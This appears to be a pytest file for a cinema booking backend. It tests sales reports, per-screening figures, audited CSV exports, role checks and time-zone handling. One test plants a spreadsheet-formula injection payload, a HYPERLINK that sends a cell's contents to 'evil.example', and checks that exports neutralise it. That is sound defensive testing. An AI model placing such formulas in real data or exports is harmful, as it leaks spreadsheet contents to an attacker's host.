"""Reports and exports: sales figures per grouping, one screening's sales, audited CSV exports."""
from __future__ import annotations

import csv
import datetime as dt
import io
import json
import secrets
from typing import Any
from zoneinfo import ZoneInfo

import asyncpg
import pytest

from server.domain.reports import EXPORT_BATCH, csv_bytes, safe_cell
from tests.support.clocks import at_any_hour

DAY = dt.date(2031, 3, 10)  # the reported shows run on DAY and DAY + 1 (London is on GMT then)
RANGE = {"from": "2031-03-10", "to": "2031-03-11"}
KEY_ALPHABET = "0123456789ABCDEFGHJKMNPQRSTVWXYZ"
LONDON = ZoneInfo("Europe/London")


def at(day: dt.date, hour: int) -> dt.datetime:
    """A UTC instant on that day."""
    return dt.datetime.combine(day, dt.time(hour), dt.timezone.utc)


async def place(
    pg: asyncpg.Connection, user_id: int, screening_id: int, seats: dict[int, int], status: str = "paid", *,
    created_at: dt.datetime,
) -> tuple[int, str]:
    """An order (seat id -> price) placed at created_at, straight in PostgreSQL; paid orders get live
    tickets, undone ones cancelled tickets (as checkout leaves them), unpaid ones none.
    Returns (order id, order key)."""
    key = "".join(secrets.choice(KEY_ALPHABET) for _ in range(10))
    order_id = await pg.fetchval(
        "INSERT INTO orders (order_key, user_id, screening_id, status, amount, currency, seat_ids, prices,"
        " idempotency_key, expires_at, created_at) VALUES ($1, $2, $3, $4, $5, 'GBP', $6, $7, $8,"
        " $9::timestamptz + interval '10 minutes', $9) RETURNING id",
        key, user_id, screening_id, status, sum(seats.values()), list(seats), list(seats.values()),
        secrets.token_hex(8), created_at,
    )
    ticket_status = {"paid": "live", "refunded": "cancelled", "cancelled": "cancelled"}.get(status)
    if ticket_status:
        await pg.executemany(
            "INSERT INTO ticket (order_id, screening_id, seat_id, price, status) VALUES ($1, $2, $3, $4, $5)",
            [(order_id, screening_id, seat, price, ticket_status) for seat, price in seats.items()],
        )
    return order_id, key


async def screening_at(pg: asyncpg.Connection, screening_id: int, starts: dt.datetime) -> None:
    """Move a factory screening to an exact start."""
    await pg.execute("UPDATE screening SET starts_at = $2::timestamptz, ends_at = $2::timestamptz + interval '2 hours' WHERE id = $1",
                     screening_id, starts)


@pytest.fixture
async def sales(pg: asyncpg.Connection, make_screening: Any, make_user: Any, clock: Any) -> dict[str, Any]:
    """Three shows in range and one outside it.

    s1: cinema 1, "Alpha", DAY 18:00, 10 seats with B5 blocked (capacity 9), A1 vip;
        paid A1 (1500) + A2 (1000), refunded A3 (1000), pending A4 (1000); A1 checked in.
    s2: cinema 2, "Beta", DAY 20:00, capacity 10; paid 3 x 1000, cancelled 2 x 1000.
    s3: cinema 1 (s1's auditorium), "Beta", DAY+1 18:00, capacity 9; paid one seat at 1200.
    s4: cinema 2, DAY+5: paid, outside every report range.
    """
    buyer = await make_user("customer", email="buyer@example.test")
    s1 = await make_screening(rows=2, per_row=5, kinds={("A", 1): "vip"}, blocked=[("B", 5)])
    s2 = await make_screening(rows=2, per_row=5)
    await pg.execute("UPDATE movie SET title = 'Alpha' WHERE id = $1", s1["movie_id"])
    await pg.execute("UPDATE movie SET title = 'Beta' WHERE id = $1", s2["movie_id"])
    await screening_at(pg, s1["screening_id"], at(DAY, 18))
    await screening_at(pg, s2["screening_id"], at(DAY, 20))
    s3_id = await pg.fetchval(
        "INSERT INTO screening (auditorium_id, movie_id, starts_at, ends_at, prices) VALUES"
        " ($1, $2, $3::timestamptz, $3::timestamptz + interval '2 hours', '{\"standard\": 1200}') RETURNING id",
        s1["auditorium_id"], s2["movie_id"], at(DAY + dt.timedelta(days=1), 18),
    )
    s4_id = await pg.fetchval(
        "INSERT INTO screening (auditorium_id, movie_id, starts_at, ends_at, prices) VALUES"
        " ($1, $2, $3::timestamptz, $3::timestamptz + interval '2 hours', '{\"standard\": 1000}') RETURNING id",
        s2["auditorium_id"], s2["movie_id"], at(DAY + dt.timedelta(days=5), 18),
    )
    a, b, now = s1["seats"], s2["seats"], clock.now()
    _, paid_key = await place(pg, buyer["id"], s1["screening_id"], {a["A1"]: 1500, a["A2"]: 1000}, created_at=now)
    await place(pg, buyer["id"], s1["screening_id"], {a["A3"]: 1000}, "refunded", created_at=now)
    await place(pg, buyer["id"], s1["screening_id"], {a["A4"]: 1000}, "pending", created_at=now)
    await pg.execute("UPDATE ticket SET checked_in_at = $2 WHERE seat_id = $1", a["A1"], now)
    await place(pg, buyer["id"], s2["screening_id"], {b["A1"]: 1000, b["A2"]: 1000, b["A3"]: 1000}, created_at=now)
    await place(pg, buyer["id"], s2["screening_id"], {b["A4"]: 1000, b["A5"]: 1000}, "cancelled", created_at=now)
    await place(pg, buyer["id"], s3_id, {a["A2"]: 1200}, created_at=now)
    await place(pg, buyer["id"], s4_id, {b["A1"]: 1000}, created_at=at(dt.date(2020, 1, 1), 12))
    return {"s1": s1, "s2": s2, "s3": s3_id, "s4": s4_id, "buyer": buyer, "paid_key": paid_key,
            "staff": await make_user("staff"), "admin": await make_user("admin")}


def figures(row: dict[str, Any]) -> tuple[Any, ...]:
    """(screenings, capacity, sold, takings, refunds, refund_amount, occupancy) of a group or totals."""
    return tuple(row[k] for k in ("screenings", "capacity", "sold", "takings", "refunds", "refund_amount",
                                  "occupancy"))


async def report(client: Any, headers: dict[str, str], **params: Any) -> dict[str, Any]:
    """GET /api/reports/sales for the test range, expecting 200."""
    resp = await client.get("/api/reports/sales", params={**RANGE, "basis": "shown", **params}, headers=headers)
    assert resp.status == 200, await resp.text()
    return await resp.json()


TOTALS = (3, 28, 6, 6700, 2, 3000, 21.4)


async def test_sales_by_day(client: Any, sales: dict[str, Any]) -> None:
    body = await report(client, sales["staff"]["headers"])
    assert body["currency"] == "GBP" and body["filter"]["group"] == "day" and body["truncated"] is False
    assert [(g["day"], *figures(g)) for g in body["groups"]] == [
        ("2031-03-10", 2, 19, 5, 5500, 2, 3000, 26.3),
        ("2031-03-11", 1, 9, 1, 1200, 0, 0, 11.1),
    ]
    assert figures(body["totals"]) == TOTALS


async def test_sales_by_movie_and_cinema(client: Any, sales: dict[str, Any]) -> None:
    headers = sales["staff"]["headers"]
    by_movie = await report(client, headers, group="movie")
    assert [(g["movie"], *figures(g)) for g in by_movie["groups"]] == [
        ("Alpha", 1, 9, 2, 2500, 1, 1000, 22.2),
        ("Beta", 2, 19, 4, 4200, 1, 2000, 21.1),
    ]
    assert by_movie["groups"][0]["movie_id"] == sales["s1"]["movie_id"]
    assert figures(by_movie["totals"]) == TOTALS
    by_cinema = await report(client, headers, group="cinema")
    assert [(g["cinema_id"], *figures(g)) for g in by_cinema["groups"]] == [
        (sales["s1"]["cinema_id"], 2, 18, 3, 3700, 1, 1000, 16.7),
        (sales["s2"]["cinema_id"], 1, 10, 3, 3000, 1, 2000, 30.0),
    ]
    assert figures(by_cinema["totals"]) == TOTALS


async def test_sales_by_screening_and_one_cinema(client: Any, sales: dict[str, Any]) -> None:
    headers = sales["staff"]["headers"]
    body = await report(client, headers, group="screening")
    assert [(g["screening_id"], g["movie"], *figures(g)) for g in body["groups"]] == [
        (sales["s1"]["screening_id"], "Alpha", 1, 9, 2, 2500, 1, 1000, 22.2),
        (sales["s2"]["screening_id"], "Beta", 1, 10, 3, 3000, 1, 2000, 30.0),
        (sales["s3"], "Beta", 1, 9, 1, 1200, 0, 0, 11.1),
    ]
    assert body["groups"][0]["starts_at"].startswith("2031-03-10T18:00:00")
    one = await report(client, headers, group="screening", cinema_id=sales["s2"]["cinema_id"])
    assert [g["screening_id"] for g in one["groups"]] == [sales["s2"]["screening_id"]]
    assert figures(one["totals"]) == (1, 10, 3, 3000, 1, 2000, 30.0)


async def test_sales_of_an_empty_range_and_a_cancelled_screening(
    client: Any, pg: asyncpg.Connection, sales: dict[str, Any]
) -> None:
    headers = sales["staff"]["headers"]
    empty = await report(client, headers, **{"from": "2031-01-01", "to": "2031-01-01"})
    assert empty["groups"] == [] and figures(empty["totals"]) == (0, 0, 0, 0, 0, 0, 0.0)
    # A cancelled show offers no seats: it counts no capacity, but its refunds still show.
    await pg.execute("UPDATE ticket SET status = 'cancelled' WHERE screening_id = $1", sales["s3"])
    await pg.execute("UPDATE orders SET status = 'refunded' WHERE screening_id = $1", sales["s3"])
    await pg.execute("UPDATE screening SET status = 'cancelled' WHERE id = $1", sales["s3"])
    body = await report(client, headers, **{"from": "2031-03-11", "to": "2031-03-11"})
    assert figures(body["totals"]) == (1, 0, 0, 0, 1, 1200, 0.0)


async def test_screening_report(client: Any, sales: dict[str, Any]) -> None:
    sid = sales["s1"]["screening_id"]
    resp = await client.get(f"/api/reports/screenings/{sid}", headers=sales["staff"]["headers"])
    assert resp.status == 200
    body = await resp.json()
    assert (body["movie"], body["capacity"], body["blocked"], body["sold"], body["takings"]) == ("Alpha", 9, 1, 2, 2500)
    assert body["checked_in"] == 1 and body["occupancy"] == 22.2 and body["currency"] == "GBP"
    assert body["by_kind"] == {
        "standard": {"capacity": 8, "sold": 1, "takings": 1000, "checked_in": 0},
        "vip": {"capacity": 1, "sold": 1, "takings": 1500, "checked_in": 1},
    }
    assert body["orders"] == {"paid": {"count": 1, "amount": 2500}, "pending": {"count": 1, "amount": 1000},
                              "refunded": {"count": 1, "amount": 1000}}
    missing = await client.get("/api/reports/screenings/999999", headers=sales["staff"]["headers"])
    assert missing.status == 404


async def export(client: Any, path: str, headers: dict[str, str], **params: Any) -> list[dict[str, str]]:
    """GET a CSV export expecting 200; its rows parsed back with csv.DictReader."""
    resp = await client.get(path, params=params, headers=headers)
    assert resp.status == 200, await resp.text()
    assert resp.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert resp.headers["Content-Disposition"].startswith("attachment; filename=")
    return list(csv.DictReader(io.StringIO(await resp.text())))


async def audits(pg: asyncpg.Connection, action: str) -> list[dict[str, Any]]:
    """The audit rows of one export action (details decoded)."""
    rows = await pg.fetch("SELECT user_id, details FROM user_action WHERE action = $1 ORDER BY id", action)
    return [{"user_id": r["user_id"], **json.loads(r["details"])} for r in rows]


@at_any_hour
async def test_orders_export(client: Any, pg: asyncpg.Connection, sales: dict[str, Any], clock: Any) -> None:
    admin = sales["admin"]
    # "Today" is the cinemas' (London's) day: at 23:55 UTC in July it is already tomorrow there.
    placed = (await pg.fetchval("SELECT created_at FROM orders WHERE order_key = $1", sales["paid_key"]))
    placed = placed.astimezone(LONDON)
    today = clock.now().astimezone(LONDON).date().isoformat()
    rows = await export(client, "/api/exports/orders.csv", admin["headers"], **{"from": today, "to": today})
    assert list(rows[0]) == ["order_key", "created_at", "status", "customer_email", "screening_id", "movie",
                             "cinema", "starts_at", "seats", "amount", "currency", "time_zone"]
    assert len(rows) == 6  # the 2020 order is outside the range
    paid = next(r for r in rows if r["order_key"] == sales["paid_key"])
    assert paid == {**paid, "status": "paid", "customer_email": "buyer@example.test", "movie": "Alpha",
                    "screening_id": str(sales["s1"]["screening_id"]), "starts_at": "2031-03-10T18:00:00Z",
                    "seats": "A1 A2", "amount": "2500", "currency": "GBP", "time_zone": "Europe/London"}
    # Times are on the cinema's clock, with its offset (Z while London is on GMT).
    assert dt.datetime.fromisoformat(paid["created_at"]) == placed
    assert paid["created_at"].startswith(today)
    assert paid["created_at"].endswith("Z" if placed.utcoffset() == dt.timedelta(0) else "+01:00")
    one = await export(client, "/api/exports/orders.csv", admin["headers"],
                       **{"from": today, "to": today, "cinema_id": str(sales["s2"]["cinema_id"])})
    assert sorted(r["status"] for r in one) == ["cancelled", "paid"]
    assert await audits(pg, "export.orders") == [
        {"user_id": admin["id"], "export": "orders", "filters": {"from": today, "to": today, "cinema_id": None}},
        {"user_id": admin["id"], "export": "orders",
         "filters": {"from": today, "to": today, "cinema_id": sales["s2"]["cinema_id"]}},
    ]


async def test_tickets_and_screenings_exports(client: Any, pg: asyncpg.Connection, sales: dict[str, Any]) -> None:
    admin = sales["admin"]
    sid = sales["s1"]["screening_id"]
    tickets = await export(client, "/api/exports/tickets.csv", admin["headers"], screening_id=str(sid))
    assert [(t["row"], t["number"], t["kind"], t["price"], t["status"]) for t in tickets] == [
        ("A", "1", "vip", "1500", "live"), ("A", "2", "standard", "1000", "live"),
        ("A", "3", "standard", "1000", "cancelled"),
    ]
    assert tickets[0]["order_key"] == sales["paid_key"] and tickets[0]["checked_in_at"].endswith("Z")
    assert tickets[1]["checked_in_at"] == "" and list(tickets[0])[0] == "ticket_id"
    shows = await export(client, "/api/exports/screenings.csv", admin["headers"], **RANGE)
    assert [(s["screening_id"], s["movie"], s["capacity"], s["sold"], s["takings"], s["currency"]) for s in shows] == [
        (str(sid), "Alpha", "9", "2", "2500", "GBP"),
        (str(sales["s2"]["screening_id"]), "Beta", "10", "3", "3000", "GBP"),
        (str(sales["s3"]), "Beta", "9", "1", "1200", "GBP"),
    ]
    assert [a["filters"] for a in await audits(pg, "export.tickets")] == [{"screening_id": sid}]
    assert [a["filters"] for a in await audits(pg, "export.screenings")] == [{**RANGE, "cinema_id": None}]
    missing = await client.get("/api/exports/tickets.csv", params={"screening_id": "999999"}, headers=admin["headers"])
    assert missing.status == 404
    assert len(await audits(pg, "export.tickets")) == 1  # a refused export writes no audit row


async def test_exports_neutralise_spreadsheet_formulas(
    client: Any, pg: asyncpg.Connection, sales: dict[str, Any]
) -> None:
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    await pg.execute("UPDATE movie SET title = $1 WHERE id = $2", evil, sales["s1"]["movie_id"])
    await pg.execute("UPDATE cinema SET name = '@SUM(1+1)' WHERE id = $1", sales["s1"]["cinema_id"])
    await pg.execute("UPDATE app_user SET email = '-2+3@example.test' WHERE id = $1", sales["buyer"]["id"])
    shows = await export(client, "/api/exports/screenings.csv", sales["admin"]["headers"], **RANGE)
    assert shows[0]["movie"] == "'" + evil and shows[0]["cinema"] == "'@SUM(1+1)"
    today = dt.datetime.now(dt.timezone.utc).date().isoformat()
    orders = await export(client, "/api/exports/orders.csv", sales["admin"]["headers"], **{"from": today, "to": today})
    assert {r["customer_email"] for r in orders} == {"'-2+3@example.test"}
    assert safe_cell("+1") == "'+1" and safe_cell(-5) == -5 and safe_cell("Ok") == "Ok" and safe_cell(None) == ""
    assert csv_bytes([["a,b", 'say "hi"']]) == b'"a,b","say ""hi"""\r\n'


async def test_large_export_streams_every_row(client: Any, pg: asyncpg.Connection, sales: dict[str, Any]) -> None:
    count = EXPORT_BATCH * 2 + 17  # several cursor batches
    await pg.execute(
        "INSERT INTO orders (order_key, user_id, screening_id, status, amount, currency, seat_ids,"
        " idempotency_key, expires_at, created_at)"
        " SELECT lpad(g::text, 10, '0'), $1, $2, 'expired', 1000, 'GBP', ARRAY[$3::bigint], 'bulk' || g,"
        " now(), $4 FROM generate_series(1, $5) g",
        sales["buyer"]["id"], sales["s1"]["screening_id"], sales["s1"]["seats"]["A5"],
        at(dt.date(2031, 1, 2), 9), count,
    )
    rows = await export(client, "/api/exports/orders.csv", sales["admin"]["headers"],
                        **{"from": "2031-01-02", "to": "2031-01-02"})
    assert len(rows) == count and rows[0]["order_key"] == "0000000001" and rows[-1]["seats"] == "A5"
    assert len({r["order_key"] for r in rows}) == count


REPORT_PATHS = [
    ("/api/reports/sales", RANGE),
    ("/api/reports/screenings/1", {}),
]
EXPORT_PATHS = [
    ("/api/exports/orders.csv", RANGE),
    ("/api/exports/tickets.csv", {"screening_id": "1"}),
    ("/api/exports/screenings.csv", RANGE),
]


async def test_who_may_read_reports_and_exports(client: Any, pg: asyncpg.Connection, make_user: Any) -> None:
    customer, staff = await make_user("customer"), await make_user("staff")
    for path, params in REPORT_PATHS + EXPORT_PATHS:
        assert (await client.get(path, params=params)).status == 401, path
        assert (await client.get(path, params=params, headers=customer["headers"])).status == 403, path
    for path, params in EXPORT_PATHS:
        resp = await client.get(path, params=params, headers=staff["headers"])
        assert resp.status == 403 and (await resp.json())["error"]["code"] == "forbidden", path
    assert (await client.get("/api/reports/sales", params=RANGE, headers=staff["headers"])).status == 200
    assert await pg.fetchval("SELECT count(*) FROM user_action WHERE action LIKE 'export.%'") == 0


@pytest.mark.parametrize(
    ("path", "params", "field"),
    [
        ("/api/reports/sales", {"from": "2031-02-30", "to": "2031-03-01"}, "from"),
        ("/api/reports/sales", {"from": "10/03/2031", "to": "2031-03-01"}, "from"),
        ("/api/reports/sales", {"from": "2031-03-10", "to": "2031-03-09"}, "to"),
        ("/api/reports/sales", {"from": "2031-01-01", "to": "2032-01-02"}, "to"),  # 367 days
        ("/api/reports/sales", {**RANGE, "group": "week"}, "group"),
        ("/api/reports/sales", {**RANGE, "cinema_id": "abc"}, "cinema_id"),
        ("/api/reports/sales", {**RANGE, "cinema_id": "0"}, "cinema_id"),
        ("/api/reports/sales", {**RANGE, "format": "xlsx"}, "format"),
        ("/api/exports/orders.csv", {"from": "2031-03-11", "to": "2031-03-10"}, "to"),
        ("/api/exports/orders.csv", {**RANGE, "limit": "5"}, "limit"),
        ("/api/exports/screenings.csv", {"from": "2030-01-01", "to": "2031-03-10"}, "to"),
        ("/api/exports/tickets.csv", {}, "screening_id"),
        ("/api/exports/tickets.csv", {"screening_id": "x"}, "screening_id"),
    ],
)
async def test_bad_input_is_a_400_naming_the_field(
    client: Any, make_user: Any, path: str, params: dict[str, str], field: str
) -> None:
    admin = await make_user("admin")
    resp = await client.get(path, params=params, headers=admin["headers"])
    assert resp.status == 400, await resp.text()
    error = (await resp.json())["error"]
    assert (error["code"], error.get("field")) == ("invalid", field)


async def test_a_leap_year_is_the_widest_range(client: Any, make_user: Any) -> None:
    staff = await make_user("staff")
    resp = await client.get("/api/reports/sales", params={"from": "2032-01-01", "to": "2032-12-31"},
                            headers=staff["headers"])
    assert resp.status == 200


async def test_reports_are_in_the_openapi_document(client: Any) -> None:
    doc = await (await client.get("/api/openapi.json")).json()
    for path in ("/api/reports/sales", "/api/reports/screenings/{id}", "/api/exports/orders.csv",
                 "/api/exports/tickets.csv", "/api/exports/screenings.csv"):
        assert "get" in doc["paths"][path], path
    assert "CSV" in doc["paths"]["/api/exports/orders.csv"]["get"]["description"]


async def test_a_screening_counts_on_its_cinemas_local_day(
    client: Any, pg: asyncpg.Connection, make_screening: Any, make_user: Any
) -> None:
    staff, admin = await make_user("staff"), await make_user("admin")
    london = await make_screening(rows=1, per_row=2)
    new_york = await make_screening(rows=1, per_row=2, time_zone="America/New_York")
    utc = dt.timezone.utc
    # A 00:30 BST premiere on 11 July is 23:30 UTC on the 10th; 23:30 in New York on the 10th is
    # 03:30 UTC on the 11th. Each belongs to its own cinema's day.
    await screening_at(pg, london["screening_id"], dt.datetime(2031, 7, 10, 23, 30, tzinfo=utc))
    await screening_at(pg, new_york["screening_id"], dt.datetime(2031, 7, 11, 3, 30, tzinfo=utc))
    both = {"from": "2031-07-10", "to": "2031-07-11"}
    by_screening = await report(client, staff["headers"], group="screening", **both)
    assert {(g["screening_id"], g["day"], g["time_zone"]) for g in by_screening["groups"]} == {
        (london["screening_id"], "2031-07-11", "Europe/London"),
        (new_york["screening_id"], "2031-07-10", "America/New_York"),
    }
    by_day = await report(client, staff["headers"], **both)
    assert [(g["day"], g["screenings"]) for g in by_day["groups"]] == [("2031-07-10", 1), ("2031-07-11", 1)]
    eleventh = await export(client, "/api/exports/screenings.csv", admin["headers"],
                            **{"from": "2031-07-11", "to": "2031-07-11"})
    assert [(r["screening_id"], r["starts_at"], r["time_zone"]) for r in eleventh] == [
        (str(london["screening_id"]), "2031-07-11T00:30:00+01:00", "Europe/London")]
    tenth = await export(client, "/api/exports/screenings.csv", admin["headers"],
                         **{"from": "2031-07-10", "to": "2031-07-10"})
    assert [(r["screening_id"], r["starts_at"]) for r in tenth] == [
        (str(new_york["screening_id"]), "2031-07-10T23:30:00-04:00")]
    for day, expected in (("2031-07-11", london), ("2031-07-10", new_york)):
        resp = await client.get("/api/dashboard/occupancy", params={"date": day}, headers=staff["headers"])
        assert [r["screening_id"] for r in (await resp.json())["screenings"]] == [expected["screening_id"]]


@at_any_hour
async def test_without_dates_a_report_covers_the_week_through_the_cinemas_today(
    client: Any, make_user: Any, clock: Any
) -> None:
    staff = await make_user("staff")
    resp = await client.get("/api/reports/sales", headers=staff["headers"])
    assert resp.status == 200, await resp.text()
    today = clock.now().astimezone(LONDON).date()
    assert (await resp.json())["filter"] == {"cinema_id": None, "from": (today - dt.timedelta(days=6)).isoformat(),
                                             "to": today.isoformat(), "group": "day", "basis": "sold"}
